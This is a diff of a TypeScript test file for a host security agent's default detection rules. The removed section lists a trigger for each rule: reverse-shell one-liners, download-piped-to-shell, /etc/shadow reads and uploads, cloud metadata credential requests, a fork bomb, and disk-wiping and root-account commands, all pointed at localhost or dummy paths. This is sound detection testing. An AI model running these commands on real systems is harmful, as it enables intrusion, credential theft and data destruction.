@@ -1,255 +1,62 @@
-import { spawnSync } from 'node:child_process'
-import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, rmdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
+/** What the rules that come with the agent say of real deeds, and what their author's tools say of them: one agent, as it runs without a configuration. */
+import { spawn, spawnSync } from 'node:child_process'
+import { once } from 'node:events'
+import { existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
 import { dirname, join } from 'node:path'
+import { perform } from '@cws/plugin-rules/testing'
 import defaults from '@cws/rules-default'
-import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { type Line, RunningAgent } from '../support/agent.ts'
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
+import { type Line, RunningAgent, root } from '../support/agent.ts'
 import { plainEnvironment } from '../support/environment.ts'
-import { generator, runBelow, runFromSharedMemory, runMemoryFile, temporaryFolder } from '../support/triggers.ts'
+import { runFromSharedMemory, temporaryFolder } from '../support/triggers.ts'
 import { nested, pidNamespace } from '../support/vantage.ts'
 
-/** Nobody's account. */
-const NOBODY = 65534
-
-interface Deed {
-  readonly argv0?: string
-  readonly env?: Readonly<Record<string, string>>
-}
-
-/** Runs a program; how it ends is its own matter, that it ran is not. */
-function run(program: string, args: readonly string[], { argv0, env }: Deed = {}): void {
-  const { error } = spawnSync(program, args, {
-    stdio: 'ignore',
-    timeout: 20_000,
-    env: { ...process.env, ...env },
-    ...(argv0 === undefined ? {} : { argv0 }),
-  })
-  if (error) throw error
-}
-
-/** A copy of /bin/true under another name: it takes any arguments and does nothing with them. */
-function runAs(name: string, args: readonly string[] = [], deed: Deed = {}): void {
-  using folder = temporaryFolder()
-  const program = join(folder.path, name)
-  copyFileSync('/bin/true', program)
-  run(program, args, deed)
-}
-
-/** The same in a session of its own: some rules make one signal a session, and in this one others may have made it already. */
-function runInSession(name: string, ...args: string[]): void {
-  using folder = temporaryFolder()
-  const program = join(folder.path, name)
-  copyFileSync('/bin/true', program)
-  run('/usr/bin/setsid', ['--wait', program, ...args])
-}
-
-const runUnlinked = () => {
-  using folder = temporaryFolder()
-  const program = join(folder.path, 'dropped')
-  copyFileSync('/bin/true', program)
-  run(generator('process_shapes'), ['unlinked', 'mark', program])
-}
-
-/** A copy of a program under another name, for others to run. It goes with the file's tests. */
-function copyOf(original: string, name: string): string {
-  const program = join(copies.path, name)
-  copyFileSync(original, program)
-  return program
-}
-const copyAs = (name: string) => copyOf('/bin/true', name)
-
-/** A shell that has the set-uid bit for as long as the file's tests run, in a folder that root alone may enter. */
-function setUidCopy(name: string): string {
-  const program = copyOf('/bin/sh', name)
-  chmodSync(program, 0o4755)
-  return program
-}
-const runSetUid = (env: Readonly<Record<string, string>>) => run(setUidCopy('cws-test-set-uid'), ['-c', ':'], { env })
-
-/** A shell ends itself as a program does that uses memory which it does not have. */
-const crash = (shell: string) => run(shell, ['-c', 'ulimit -c 0; kill -SEGV $$'])
-
-const copies = temporaryFolder()
-afterAll(() => copies[Symbol.dispose]())
-
-/** A script of this name, called to install something, starts a program. */
-function runBelowScript(name: string, program: string): void {
-  const script = join(copies.path, name)
-  writeFileSync(script, `#!/bin/sh\n${program} 127.0.0.1 9\nexit 0\n`, { mode: 0o755 })
-  run(script, ['install', 'nothing'])
-}
-
-/** A shell command that has a terminal of its own. */
-const runAtTerminal = (command: string) => run('/usr/bin/script', ['-qec', command, '/dev/null'])
-
-/** A shell command beside an overlay, whose upper layer is written after it was mounted, in a control group of a container. All of it is gone afterwards. */
-function runInContainer(command: string): void {
-  using folder = temporaryFolder()
-  for (const name of ['lower', 'upper', 'work', 'merged']) mkdirSync(join(folder.path, name))
-  const controller = ['/sys/fs/cgroup/memory', '/sys/fs/cgroup/pids', '/sys/fs/cgroup'].find((path) =>
-    existsSync(join(path, 'cgroup.procs')),
-  )
-  const parent = join(controller as string, `cws-rules-${process.pid}`)
-  const group = join(parent, `docker-${'ab'.repeat(32)}.scope`)
-  mkdirSync(group, { recursive: true })
-  try {
-    const script = `mount -t overlay overlay -o lowerdir=lower,upperdir=upper,workdir=work merged
-echo $$ > ${group}/cgroup.procs
-${command}`
-    const { status, stderr } = spawnSync('unshare', ['-m', 'sh', '-e', '-c', script], {
-      cwd: folder.path,
-      encoding: 'utf8',
-      timeout: 20_000,
-    })
-    if (status !== 0) throw new Error(`the container did not run: ${stderr}`)
-  } finally {
-    rmdirSync(group)
-    rmdirSync(parent)
-  }
-}
-
-/** For each rule a deed that fires it and harms nobody: what is named is never done, and nothing leaves this host. */
-const triggers: Readonly<Record<string, () => void>> = {
-  'shell-from-web-server': () => runBelow('nginx', '/bin/sh', '-c', 'exit 0'),
-  'recon-from-web-server': () => runBelow('apache2', '/usr/bin/whoami'),
-  'shell-from-database': () => runBelow('postgres', '/bin/sh', '-c', 'exit 0'),
-  'shell-from-java-server': () => runBelow('java', '/bin/sh', '-c', 'exit 0', 'org.apache.catalina.startup.Bootstrap'),
-  'reverse-shell': () => run('/bin/bash', ['-c', 'false && bash -i >& /dev/tcp/127.0.0.1/9 0>&1']),
-  'reverse-shell-by-netcat': () => runAs('nc', ['-e', '/bin/sh', '127.0.0.1', '9']),
-  'reverse-shell-by-interpreter': () =>
-    runAs('python3', ['-c', 'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",9));os.dup2(s.fileno(),0);pty.spawn("sh")']),
-  'memfd-exec': () => runMemoryFile('payload'),
-  'exec-from-memory-filesystem': () => void runFromSharedMemory('payload'),
-  'executed-file-unlinked': runUnlinked,
-  'hidden-executable': () => runAs('.update'),
-  'kernel-thread-disguise': () => runAs('worker', [], { argv0: '[kworker/0:1]' }),
-  'loader-run-by-hand': () => run('/lib64/ld-linux-x86-64.so.2', ['/bin/true']),
-  'command-beyond-sight': () => run('/bin/sh', ['-c', `${' '.repeat(70_000)}:`]),
-  'new-program-in-container': () => runInContainer('cp /bin/true merged/added; exec merged/added'),
-  'decoder-piped-to-shell': () => run('/bin/sh', ['-c', 'false && echo aWQ= | base64 -d | sh']),
-  'download-piped-to-shell': () => run('/bin/sh', ['-c', 'false && curl -fsSL http://127.0.0.1:9/x.sh | sh']),
-  'credential-search': () => runInSession('find', '/home', '-name', 'id_rsa'),
-  'password-file-read': () => runInSession('cat', '/etc/shadow'),
-  'preload-from-writable-folder': () =>
-    run('/usr/bin/setsid', ['--wait', '/bin/true'], { env: { LD_PRELOAD: '/tmp/cws-test-nowhere.so' } }),
-  'set-id-exploit': () => runAs('pkexec', [], { argv0: '' }),
-  // perl sets the real user alone; the shell gives up the other rights before it reads its command.
-  'shell-with-set-id-rights': () => run('/usr/bin/perl', ['-e', `$< = ${NOBODY}; exec '/bin/sh', '-c', 'exit 0'`]),
-  cryptominer: () => runAs('xmrig', ['-o', 'stratum+tcp://127.0.0.1:9']),
-  'security-tool-stopped': () => runInSession('setenforce', '0'),
-  'file-made-immutable': () => runInSession('chattr', '+i', '/nowhere'),
-  'inline-code-fetched': () => runAs('python3', ['-c', 'from urllib.request import urlopen; exec(urlopen("http://127.0.0.1:9/").read())']),
-  'inline-code-decoded': () => run('/usr/bin/perl', ['-e', 'exit; eval(decode_base64("MQ=="))']),
-  'install-script-network-tool': () => runBelowScript('npm', copyAs('nc')),
-  'temporary-program-from-server': () => runBelow('nginx', copyAs('dropped')),
-  'download-from-web-server': () => runBelow('apache2', copyAs('curl'), 'http://127.0.0.1:9/x'),
-  'ssh-from-server': () => runBelow('postgres', copyAs('ssh'), 'nobody@127.0.0.1'),
-  'shell-from-network-service': () => runBelow('foomatic-rip', '/bin/sh', '-c', 'exit 0'),
-  'service-account-shell': () => runAtTerminal(`setpriv --reuid=${NOBODY} --clear-groups /bin/sh -c 'exit 0'`),
-  'ssh-tunnel-opened': () => runAs('ssh', ['-N', '-R', '2222:localhost:22', 'nobody@127.0.0.1']),
-  'tunnel-program': () => runAs('chisel', ['client', '127.0.0.1:9', 'R:socks']),
-  'tor-started': () => runAs('tor', ['-f', '/nowhere']),
-  'listener-by-hand': () => runInSession('nc', '-l', '-p', '9'),
-  'secret-sent-away': () => runInSession('curl', '-T', '/etc/shadow', 'http://127.0.0.1:9/'),
-  'paste-site-contacted': () => runInSession('curl', '--upload-file', '/nowhere', 'https://transfer.sh/x'),
-  'cloud-copy-tool': () => runAs('rclone', ['copy', '/nowhere', 'remote:x']),
-  'data-in-dns-names': () => runInSession('dig', `${'0123456789abcdef'.repeat(3)}.invalid`),
-  'daemon-disguise': () => runAs('systemd-worker'),
-  'deceptive-file-name': () => runAs('invoice.pdf'),
-  'timestamp-forged': () => runInSession('touch', '-r', '/bin/ls', '/usr/bin/cws-test-nowhere'),
-  'history-switched-off': () => run('/usr/bin/setsid', ['--wait', '/bin/bash', '-c', ':'], { env: { HISTFILE: '/dev/null' } }),
-  'kernel-log-cleared': () => runInSession('dmesg', '-C'),
-  'process-hidden-by-mount': () => runInSession('mount', '--bind', '/nowhere', '/proc/1'),
-  'firewall-switched-off': () => runInSession('iptables', '-F'),
-  'strange-kernel-module': () => runInSession('insmod', '/tmp/cws-test-nowhere.ko'),
-  'kernel-hook-written': () => runInSession('sysctl', '-w', 'kernel.core_pattern=|/nowhere'),
-  'kernel-protection-weakened': () => runInSession('sysctl', '-w', 'kernel.randomize_va_space=0'),
-  'kernel-replaced-at-run-time': () => runInSession('kexec', '-l', '/nowhere'),
-  'cpu-registers-written': () => runInSession('wrmsr', '-a', '0x1a4', '0xf'),
-  'host-namespace-entered': () => runInSession('nsenter', '-t', '1', '-m', 'true'),
-  'host-disk-in-container': () => runInContainer('cp /bin/true merged/mount; exec merged/mount /dev/sda1 /nowhere'),
-  'container-socket-used-by-hand': () => runInSession('curl', '--unix-socket', '/nowhere/docker.sock', 'http://x/'),
-  'privileged-container-started': () => runInSession('docker', 'run', '--privileged', 'nothing'),
-  'shell-in-container': () => runInContainer(`exec script -qec 'exec /bin/sh -c :' /dev/null`),
-  'package-manager-in-container': () => runInContainer('cp /bin/true merged/apk; exec merged/apk add nothing'),
-  'privilege-scanner': () => runAs('linpeas.sh'),
-  'remote-control-implant': () => runAs('gs-netcat', ['-s', 'x', '-i']),
-  'password-guesser': () => runInSession('hydra', '-l', 'root', '-P', '/nowhere', 'ssh://127.0.0.1'),
-  'attack-scanner': () => runInSession('masscan', '127.0.0.1', '-p9'),
-  'ports-scanned': () => runInSession('nmap', '-sn', '127.0.0.1'),
-  'network-spoofed': () => runInSession('arpspoof', '-t', '127.0.0.1', '127.0.0.1'),
-  'packets-captured': () => runInSession('tcpdump', '-i', 'lo'),
-  'process-memory-read': () => runInSession('gcore', '1'),
-  'cloud-metadata-asked': () => runInSession('curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/x'),
-  'service-token-read': () => runInSession('cat', '/nowhere/secrets/kubernetes.io/serviceaccount/token'),
-  'secret-scanner': () => runInSession('trufflehog', 'filesystem', '/nowhere'),
-  'disk-read-directly': () => runInSession('debugfs', '-R', 'stats', '/dev/nowhere'),
-  'capability-granted': () => runInSession('setcap', 'cap_setuid+ep', '/nowhere'),
-  'set-id-search': () => runInSession('find', '/nowhere', '-perm', '-4000'),
-  'set-id-with-odd-environment': () => runSetUid({ GCONV_PATH: '/nowhere' }),
-  'sudo-with-loader-variable': () => runInSession('sudo', 'LD_PRELOAD=/nowhere/x.so', 'true'),
-  'shell-out-of-allowed-tool': () => runBelow('sudo', copyOf(generator('spawn'), 'vim'), '/bin/sh'),
-  'user-namespace-by-hand': () =>
-    run('/usr/bin/setpriv', [`--reuid=${NOBODY}`, '--clear-groups', copyAs('unshare'), '--user', '--map-root-user', 'true']),
-  'privileged-group-joined': () => runInSession('usermod', '-aG', 'sudo', 'cws-test-nobody'),
-  'second-root-account': () => runInSession('useradd', '-o', '-u', '0', 'cws-test-nobody'),
-  'password-removed': () => runInSession('passwd', '-d', 'cws-test-nobody'),
-  'system-removed': () => runInSession('rm', '-rf', '--no-preserve-root', '/nowhere'),
-  'disk-overwritten': () => runInSession('dd', 'if=/dev/zero', 'of=/dev/sdnowhere'),
-  'files-shredded': () => runInSession('shred', '-u', '/nowhere'),
-  'files-encrypted-in-bulk': () => runInSession('find', '/nowhere', '-exec', 'openssl', 'enc', '-aes-256-cbc', '-in', '{}', ';'),
-  'host-shut-down-by-server': () => runBelow('nginx', copyAs('shutdown'), '-h', 'now'),
-  'fork-bomb': () => run('/bin/sh', ['-c', 'exit 0; :(){ :|:& };:']),
-  'files-gathered-for-carrying-off': () => runInSession('tar', 'czf', '/tmp/cws-test-nowhere.tgz', '/etc'),
-  'screen-or-keys-recorded': () => runInSession('scrot', '/nowhere.png'),
-  'set-id-program-crashed': () => crash(setUidCopy('crasher')),
-  'server-crashed': () => crash(copyOf('/bin/sh', 'nginx')),
-  'network-tool-in-container': () => runInContainer('cp /bin/true merged/nmap; exec merged/nmap 127.0.0.1'),
-  'compiler-in-container': () => runInContainer('cp /bin/true merged/cc1; exec merged/cc1 x.c'),
-  'link-to-secret': () => runInSession('ln', '-s', '/etc/shadow', '/nowhere/x'),
-  'process-environment-read': () => runInSession('strings', '/proc/1/environ'),
-  'transient-unit-started': () => runInSession('systemd-run', '--on-calendar=hourly', '/nowhere'),
-  'job-queued-by-at': () => runInSession('at', 'now', '+', '1', 'minute'),
-  'ssh-password-on-command-line': () => runInSession('sshpass', '-p', 'x', 'ssh', 'nobody@127.0.0.1'),
-  'shell-from-notebook': () => runBelow('python3', '/bin/sh', '-c', 'exit 0', 'jupyter-lab'),
-  'container-client-in-container': () => runInContainer('cp /bin/true merged/kubectl; exec merged/kubectl get secrets'),
-}
-/** Those about programs that run and end; those about files have tests of their own. */
-const rules = defaults.rules.filter(({ on }) => on === 'exec' || on === 'exit')
+const triggers = defaults.triggers ?? {}
+/** In namespaces of one's own neither the author nor the path of a change or an opened file is what the host calls it. */
+const rules = defaults.rules.filter(({ on }) => !nested() || on === 'exec' || on === 'exit')
 
 let agent: RunningAgent
+const undo: (() => void)[] = []
 beforeAll(async () => {
+  // Of what lies in a folder that is new nobody knows who put it there.
+  for (const { id } of rules) {
+    const trigger = triggers[id]
+    const made = trigger && 'make' in trigger ? mkdirSync(dirname(trigger.make), { recursive: true }) : undefined
+    if (made !== undefined) undo.push(() => rmSync(made, { recursive: true }))
+  }
   agent = await RunningAgent.start()
 })
-afterAll(() => agent?.[Symbol.asyncDispose]())
+afterAll(async () => {
+  await agent?.[Symbol.asyncDispose]()
+  for (const one of undo.reverse()) one()
+})
+
+/** Runs the command line, about the agent that runs. How it ends is the caller's matter. */
+async function cws(...args: string[]): Promise<{ readonly code: number; readonly stdout: string; readonly stderr: string }> {
+  const command = start(...args)
+  const written = { stdout: '', stderr: '' }
+  for (const name of ['stdout', 'stderr'] as const) command[name].setEncoding('utf8').on('data', (text: string) => (written[name] += text))
+  const [code] = await once(command, 'close')
+  return { code, ...written }
+}
+
+const start = (...args: string[]) =>
+  spawn(process.execPath, [join(root, 'distributions/host/bin/cws.js'), ...args], {
+    cwd: root,
+    env: { ...process.env, CWS_STATE_DIR: join(agent.folder, 'state'), CWS_RUN_DIR: join(agent.folder, 'run') },
+  })
 
 /**
- * Whether this process stands above what the signal is about: others on this machine have signals of their own. In a pid namespace of its own
- * this process has another pid in records, but whoever shares the namespace is ours.
+ * Whether this process stands above what the signal is about, or is it: others on this machine have signals of their own. In a pid namespace of
+ * its own this process has another pid in records, but whoever shares the namespace is ours.
  */
 function isOurs({ event }: Line): boolean {
-  const { process: subject } = event as { process?: { ns?: { pidns?: number }; ancestors?: readonly { pid: number }[] } }
+  const { process: subject } = event as { process?: { pid?: number; ns?: { pidns?: number }; ancestors?: readonly { pid: number }[] } }
   if (nested()) return subject?.ns?.pidns === pidNamespace
-  return subject?.ancestors?.some(({ pid }) => pid === process.pid) ?? false
+  return subject?.pid === process.pid || (subject?.ancestors?.some(({ pid }) => pid === process.pid) ?? false)
 }
 
 const ruleOf = (line: Line) => (line['rule'] as { id: string }).id
-
-describe('each rule that comes with the agent', () => {
-  it('has a trigger here, and each trigger a rule', () => {
-    expect(Object.keys(triggers).sort()).toEqual(rules.map(({ id }) => id).sort())
-  })
-
-  it.each(Object.keys(triggers))('%s fires on the real thing', async (id) => {
-    const from = agent.lines.length
-    triggers[id]?.()
-    const fits = (line: Line) => isOurs(line) && agent.lines.indexOf(line) >= from
-    const signal = await agent.signal(id, fits)
-    const rule = rules.find((one) => one.id === id)
-    expect(signal).toMatchObject({ severity: rule?.severity, title: rule?.name, tags: rule?.tags })
-    expect(signal['message']).not.toContain('{{')
-  })
-})
 
 // Who opened a file is not known from within a pid namespace of one's own.
 describe.skipIf(nested())('a detection that comes with the agent', () => {
@@ -264,7 +71,7 @@ describe.skipIf(nested())('a detection that comes with the agent', () => {
       // Of files that are new the watch hears a moment later.
       const isWhole = (line: Line) => line.kind === 'signal' && ruleOf(line) === 'secrets-gathered' && isOurs(line)
       const isTold = () => {
-        run('/bin/cat', ['/etc/shadow', credentials, key])
+        spawnSync('/bin/cat', ['/etc/shadow', credentials, key], { stdio: 'ignore' })
         return agent.lines.some(isWhole)
       }
       await expect.poll(isTold, { interval: 200, timeout: 20_000 }).toBe(true)
@@ -275,6 +82,86 @@ describe.skipIf(nested())('a detection that comes with the agent', () => {
     } finally {
       rmSync(home, { recursive: true })
     }
+  })
+})
+
+describe('each rule that comes with the agent', () => {
+  /** Fires by what is found in memory, and by what runs below a path of this run. */
+  const [IN_MEMORY, MINER] = ['exec-from-memory-filesystem', 'cryptominer'] as const
+  const outcomes = new Map<string, { readonly state: string; readonly signal: string | null; readonly detail: string | null }>()
+  const folder = temporaryFolder()
+  afterAll(() => folder[Symbol.dispose]())
+  const recording = join(folder.path, 'deeds.cws')
+
+  beforeAll(async () => {
+    const recorder = start('record', 'exec.file.path =~ "**/cws-simulate-*/*"', '--types', 'exec', '--out', recording)
+    let told = ''
+    recorder.stderr.setEncoding('utf8').on('data', (text: string) => (told += text))
+    const ended = once(recorder, 'close')
+    try {
+      await vi.waitUntil(() => told.includes('recording exec to'), 60_000)
+      const { stdout, stderr } = await cws('rules', 'simulate', '--format', 'json', ...rules.map(({ id }) => id))
+      expect(stderr).toBe('')
+      for (const outcome of JSON.parse(stdout)) outcomes.set(outcome.rule, outcome)
+    } finally {
+      recorder.kill('SIGINT')
+      await ended
+    }
+  })
+
+  it.each(rules.map(({ id }) => id))('%s fires on the real thing', async (id) => {
+    const { state, signal: told, detail } = outcomes.get(id) ?? {}
+    const trigger = triggers[id]
+    const rule = rules.find((one) => one.id === id)
+    const from = agent.lines.length
+    let undo = () => {}
+    if (state === 'refused' && trigger?.harm !== undefined) {
+      // On a host that matters; this one is the tests' own.
+      if (id === 'packages-changed' && !existsSync('/usr/bin/dpkg')) return
+      undo = perform(trigger)
+    } else {
+      expect([state, detail]).toEqual(['fired', rule?.name])
+    }
+    try {
+      const fits = (line: Line) => isOurs(line) && (told ? line['id'] === told : agent.lines.indexOf(line) >= from)
+      const signal = await agent.signal(id, fits)
+      expect(signal).toMatchObject({ severity: rule?.severity, title: rule?.name, tags: rule?.tags })
+      expect(signal['message']).not.toContain('{{')
+      if (rule?.on === 'change' || rule?.on === 'open') expect(signal['message']).not.toContain('(unknown)')
+    } finally {
+      undo()
+    }
+  })
+
+  it.skipIf(nested())('says nothing of a package manager’s work but that it was done', () => {
+    const byDpkg = agent.lines.filter(
+      (line) => line.kind === 'signal' && isOurs(line) && JSON.stringify(line).includes('cws-simulate-package'),
+    )
+    const loud = byDpkg.filter((line) => JSON.stringify(line['event']).includes('"change"'))
+    expect([...new Set(loud.map(ruleOf))]).toEqual(existsSync('/usr/bin/dpkg') ? ['packages-changed'] : [])
+  })
+
+  it('is quiet about a recording once the exception that its signal asks for is in the configuration', async () => {
+    const told = outcomes.get(IN_MEMORY)?.signal as string
+    const { exceptions } = JSON.parse((await cws('rules', 'except', told, '--format', 'json')).stdout)
+    const signal = await agent.signal(IN_MEMORY, (line) => line['id'] === told)
+    const { exec } = signal['event'] as { exec: { file: { path: string } } }
+    expect(exceptions[0]).toMatchObject({ unless: expect.stringContaining(`exec.file.path == "${exec.file.path}"`), silences: [] })
+
+    const rulesOf = async (...args: string[]) => {
+      const { stdout, stderr } = await cws('replay', recording, '--format', 'json', ...args)
+      const lines = stdout.split('\n').filter((line) => line !== '')
+      expect(stderr).toMatch(/^[1-9]\d* events .* replayed in /)
+      return lines.map((line) => ruleOf(JSON.parse(line)))
+    }
+    const config = join(folder.path, 'cws.config.json')
+    const tune = { [IN_MEMORY]: { unless: exceptions[0].unless } }
+    const plugins = ['process-exec', { rules: { packs: ['@cws/rules-default'], tune } }]
+    writeFileSync(config, JSON.stringify({ plugins }), { mode: 0o600 })
+    expect(await rulesOf()).toEqual(expect.arrayContaining([IN_MEMORY, MINER]))
+    const excepted = await rulesOf('--config', config)
+    expect(excepted).toContain(MINER)
+    expect(excepted).not.toContain(IN_MEMORY)
   })
 })
 
